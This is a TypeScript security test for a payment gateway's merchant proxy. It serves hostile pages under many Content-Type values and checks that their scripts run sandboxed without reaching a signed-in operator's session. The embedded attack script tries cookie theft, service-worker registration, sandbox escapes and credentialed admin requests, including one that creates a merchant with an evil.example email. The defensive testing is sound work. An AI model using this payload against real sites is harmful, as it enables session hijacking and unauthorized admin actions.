import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Test as T } from 'tap'
import type { Tab } from '../web/pay/firefox.ts'
import { defaultYaml, startGateway } from '../support/gateway.ts'
import { ManualClock } from '../support/manual-clock.ts'

/**
 * A hostile page: tries everything that could use the session of its visitor, and tells the merchant's server. `attack`
 * takes the windows to act from.
 */
const ATTACK = `
  var NAME = location.pathname.split('/').pop()
  var tell = text => fetch('report?' + encodeURIComponent(NAME + ' ' + text), { mode: 'no-cors' }).catch(() => {})
  var attack = async windows => {
    try { if (document.cookie !== '') await tell('LEAK cookie ' + document.cookie) } catch {}
    try { localStorage.setItem('x', '1'); await tell('LEAK storage') } catch {}
    try { await navigator.serviceWorker.register('worker.js'); await tell('LEAK worker') } catch {}
    for (const open of windows) {
      let from
      try { from = await open() } catch { continue }
      for (const path of ['/api/merchant/me', '/api/admin/merchants'])
        try {
          const text = await (await from.fetch(path, { credentials: 'include' })).text()
          if (text.includes('erchantId')) await tell('LEAK ' + path)
        } catch {}
      for (const type of ['application/json', 'text/plain'])
        try {
          await from.fetch('/api/admin/merchants', {
            method: 'POST',
            credentials: 'include',
            headers: { 'Content-Type': type },
            body: JSON.stringify({ name: 'Made by ' + NAME, email: NAME + '@evil.example', planTier: 'free' })
          })
        } catch {}
    }
    await tell('done ' + self.origin)
  }
  var frame = set => {
    const made = document.createElement('iframe')
    set(made)
    const loaded = new Promise(resolve => { made.onload = () => resolve(made.contentWindow) })
    document.body.append(made)
    return loaded
  }
  var escapes = [
    () => window.open('about:blank'),
    () => window.open('javascript:1'),
    () => window.open(URL.createObjectURL(new Blob(['<p>'], { type: 'text/html' }))),
    () => window.open('/llms.txt'),
    () => frame(() => {}),
    () => frame(made => { made.srcdoc = '<p>' }),
    () => frame(made => { made.src = '/health' }),
    () => { document.domain = location.hostname; return self },
    () => { document.open(); document.write('<p>'); document.close(); return self }
  ]
  var DONE = attack([() => self])
`

const SCRIPT = '<script src="attack.js"></script>'

/** Bodies that some browser runs as a page. */
const BODIES: Readonly<Record<string, string>> = {
  html: `<!doctype html><body>${SCRIPT}`,
  xhtml: `<html xmlns="http://www.w3.org/1999/xhtml"><body>${SCRIPT}</body></html>`,
  svg: '<svg xmlns="http://www.w3.org/2000/svg"><script href="attack.js"/></svg>',
  xsl: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?><x/>',
  parts: [
    '--b',
    'Content-Type: text/html',
    'Set-Cookie: tossed=1; Path=/',
    "Content-Security-Policy: default-src * 'unsafe-inline'",
    '',
    SCRIPT,
    '--b--',
    ''
  ].join('\r\n')
}

const SHEET = `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body>${SCRIPT}</body></html></xsl:template></xsl:stylesheet>`

/** Values of Content-Type; null for none, a list for several lines. */
const TYPES: ReadonlyArray<string | null | readonly string[]> = [
  null,
  '',
  ';',
  '/',
  '*/*',
  'foo',
  'x',
  'htm',
  'none',
  'utf-8',
  'text',
  'text/',
  '/html',
  'text/html',
  'TEXT/HTML',
  ' text/html',
  'text/html;',
  'text/html; charset=utf-7',
  'text/html; charset=utf-16le',
  'text/html;charset=iso-2022-jp',
  'text/htm',
  'text/plain',
  'text/plain; charset=x',
  'text/xml',
  'text/xsl',
  'text/xsl; charset=utf-8',
  'text/css',
  'text/javascript',
  'text/cache-manifest',
  'text/x-component',
  'text/unknown',
  'application/unknown',
  'unknown/unknown',
  'application/xml',
  'application/xhtml+xml',
  'application/xslt+xml',
  'application/rdf+xml',
  'application/rss+xml',
  'application/atom+xml',
  'application/mathml+xml',
  'application/vnd.foo+xml',
  'image/svg+xml',
  'image/svg+xml; charset=x',
  'image/png',
  'application/json',
  'application/json+html',
  'application/pdf',
  'application/octet-stream',
  'application/x-unknown-content-type',
  'application/manifest+json',
  'application/signed-exchange;v=b3',
  'application/webbundle',
  'message/rfc822',
  'multipart/related; boundary=b; type="text/html"',
  'multipart/mixed; boundary=b',
  'multipart/x-mixed-replace; boundary=b',
  'multipart/x-mixed-replace;boundary=b, text/plain',
  'text/plain, text/html',
  'text/html, text/plain',
  'application/json, text/html',
  ['text/plain', 'text/html'],
  ['text/html', 'application/json'],
  ['foo', 'text/xsl']
]

const PAGES = TYPES.flatMap((type, at) =>
  Object.entries(BODIES)
    // Each type with a page and with one in XML; more where some browser might look for them.
    .filter(([body]) =>
      body === 'parts'
        ? /multipart|rfc822/.test(String(type))
        : /html/.test(body) || /xml|xsl|svg|^$|foo|null/.test(String(type))
    )
    .map(([body, text]) => ({ name: `page-${at}-${body}`, type, text }))
)

/** The merchant's server. Answers its address, and what the pages report to it. */
async function startHostile(t: T) {
  const notified: string[] = []
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '', 'http://merchant.example')
    const name = url.pathname.slice(1)
    if (name === 'report') notified.push(decodeURIComponent(url.search.slice(1)))
    if (name === 'worker.js') notified.push('LEAK the script of a service worker was fetched')
    const page = PAGES.find(each => each.name === name)
    const files: Readonly<Record<string, readonly [string, string]>> = {
      'attack.js': ['text/javascript', ATTACK],
      'worker.js': ['text/javascript', ''],
      'sheet.xsl': ['text/xsl', SHEET]
    }
    const [type, body] = page === undefined ? (files[name] ?? ['text/html', BODIES['html']]) : [page.type, page.text]
    response.writeHead(200, [
      ...[type ?? []].flat().flatMap(value => ['Content-Type', value]),
      ...Object.entries({
        'Set-Cookie': `${name}=1; Path=/`,
        'Service-Worker-Allowed': '/',
        'X-Content-Type-Options': 'sniff',
        'Content-Security-Policy': "default-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin"
      }).flat()
    ])
    response.end(body)
  })
  server.listen(0, '127.0.0.1')
  await new Promise(resolve => server.once('listening', resolve))
  t.teardown(() => {
    server.closeAllConnections()
    server.close()
  })
  // A server that listens on a port has an AddressInfo.
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, told: notified }
}

/**
 * Visits every page of a hostile merchant as a signed-in operator, in the browser that `open` starts. None may act as
 * the operator.
 */
export async function visitHostilePages(t: T, open: (t: T) => Promise<Tab>): Promise<void> {
  const clock = new ManualClock(Date.now())
  const gateway = await startGateway(t, { yaml: defaultYaml(), clock })
  const hostile = await startHostile(t)
  const created = await gateway.merchantSend('POST', '/api/proxy', {
    name: 'Hostile',
    targetBaseUrl: hostile.url,
    defaultPriceSats: 0
  })
  const { proxyId } = created.json() as { proxyId: string }
  const base = `${gateway.url}/l402/proxy/${proxyId}`
  const tab = await open(t)
  await tab.open(`${gateway.url}/llms.txt`)
  const asOperator = `fetch('/api/admin/merchants').then(answer => answer.text())`
  await tab.run(
    `fetch('/sign-in/key', { method: 'POST', body: new URLSearchParams({ key: ${JSON.stringify(gateway.adminKey)} }) }).then(() => '')`
  )
  const before = await tab.run(asOperator)
  t.match(before, 'erchantId', 'the operator is signed in')
  for (const page of PAGES) {
    // The failed calls of the pages before must not be what stops this one.
    clock.leap(61_000)
    await tab.open(`${base}/${page.name}`)
    await tab.run(`Promise.resolve(self.DONE).then(() => '')`)
  }
  clock.leap(61_000)
  await tab.open(`${base}/escape`)
  await tab.run(`attack(escapes).then(() => '')`)
  t.same(
    hostile.told.filter(text => !text.endsWith(' done null')),
    [],
    'every page that ran had an opaque origin'
  )
  for (const at of TYPES.keys())
    if (TYPES[at] === 'text/html') t.ok(hostile.told.includes(`page-${at}-html done null`), 'pages do run')
  t.ok(hostile.told.filter(text => text.startsWith('escape done')).length >= 2)
  t.comment(`${hostile.told.length} of ${PAGES.length} pages ran`)
  clock.leap(61_000)
  await tab.open(`${gateway.url}/llms.txt`)
  t.equal(await tab.run(asOperator), before, 'the operator is still signed in, and no merchant was made')
  t.equal(await tab.run('document.cookie'), '', 'no cookie of a proxy counts for the whole origin')
}
